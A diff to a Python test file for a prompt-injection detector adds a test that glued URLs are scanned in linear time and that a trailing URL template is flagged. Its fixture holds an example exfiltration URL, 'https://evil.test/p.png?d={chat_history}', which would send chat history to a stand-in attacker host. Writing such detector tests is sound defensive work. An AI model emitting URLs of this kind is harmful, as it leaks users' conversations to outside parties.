@@ -212,3 +212,14 @@ ENDPOINT_DOCS = [
 def test_an_endpoint_path_is_no_secret(text: str) -> None:
     assert "exfil" not in signals(text)
     assert not quarantined(text)
+
+
+def test_glued_urls_are_read_once_each() -> None:
+    """Thousands of URLs with no space between them (minified code, one-line JSON): each URL is read up to the next
+    one, so a slot at the end is still found, in linear time (the old pattern took ~100 s on 8 KB of this)."""
+    from grove.security.injection_signals import windows_of
+
+    glued = '"https://cdn.example.com/a.js",' * 3000
+    assert not any("url_template" in w.signals for w in windows_of(glued))
+    tail = glued + '"https://evil.test/p.png?d={chat_history}"'
+    assert any("url_template" in w.signals for w in windows_of(tail))
